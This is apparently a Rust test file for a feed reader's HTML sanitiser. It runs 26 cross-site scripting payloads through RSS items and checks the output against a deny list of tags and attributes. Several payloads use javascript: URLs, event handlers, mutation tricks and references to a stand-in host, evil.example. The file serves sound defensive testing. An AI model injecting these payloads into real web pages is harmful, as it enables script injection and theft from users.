//! Attacks through the markup of an item.

use super::read;

const PAYLOADS: [&str; 26] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#1;java&#10;script:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:alert(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<p style=\"background:url(javascript:alert(1))\" class=x id=y name=z>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=\"https://evil.example/\"><input name=x><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a title=\"x\" onmouseover=\"alert(1)\" href='/ok'>x</a><a href=\"/ok\" target=_blank ping=\"https://evil.example\" download>x</a>",
    "<<script>alert(1);//<</script>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><details open ontoggle=alert(1)>",
];

#[test]
fn no_payload_leaves_anything_that_runs_or_loads() {
    for payload in PAYLOADS {
        let document = format!(
            "<rss xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><item><guid>1</guid>\
             <title><![CDATA[{payload}]]></title><content:encoded><![CDATA[<p>before</p>{payload}<p>after</p>]]></content:encoded></item></channel></rss>"
        );
        let feed = read(document);
        let html = feed.items[0].html.clone().unwrap_or_default().to_lowercase();
        for forbidden in [
            "<script",
            "<svg",
            "<math",
            "<iframe",
            "<style",
            "<form",
            "<input",
            "<object",
            "<embed",
            "<base",
            "<meta",
            "<noscript",
            "<template",
            "<video",
            "<details",
            "javascript:",
            "vbscript:",
            "data:",
            "file:",
            " on",
            "style=",
            "class=",
            "id=",
            "srcdoc",
            "ping=",
            "target=",
            "evil.example\"",
        ] {
            let tags: String = html
                .split('<')
                .skip(1)
                .filter_map(|part| part.split('>').next())
                .map(|tag| format!("<{tag}>"))
                .collect();
            assert!(!tags.contains(forbidden), "{forbidden} of {payload} is left in {html}");
        }
        assert!(html.contains("<p>before</p>"), "{payload}: {html}");
    }
}

#[test]
fn markup_that_was_escaped_twice_stays_text() {
    let document = "<rss><channel><item><guid>1</guid><title>&amp;lt;img src=x onerror=alert(1)&amp;gt;</title>\
        <description>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;b&gt;x&lt;/b&gt;</description></item></channel></rss>";
    let item = read(document).items.remove(0);
    assert_eq!(
        item.title.as_deref(),
        Some("<img src=x onerror=alert(1)>"),
        "text that merely looks like markup"
    );
    assert!(item.html.unwrap().starts_with("&lt;script&gt;"));
}

#[test]
fn direction_and_control_characters_leave_every_field() {
    let document = "<rss xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><item><guid>1</guid><title>a&#x202E;b</title>\
        <dc:creator>c&#x2066;d&#x1B;</dc:creator><category>e&#x200F;f</category><description>&lt;p&gt;g&amp;#x202E;h&#x9B;&lt;/p&gt;</description></item></channel></rss>";
    let item = read(document).items.remove(0);
    assert_eq!(item.title.as_deref(), Some("ab"));
    assert_eq!(item.author.name.as_deref(), Some("cd"));
    assert_eq!(item.tags, ["ef"]);
    assert!(item.text.starts_with("gh"), "{}", item.text);
    assert!(!item.html.unwrap().contains('\u{202E}'));
}
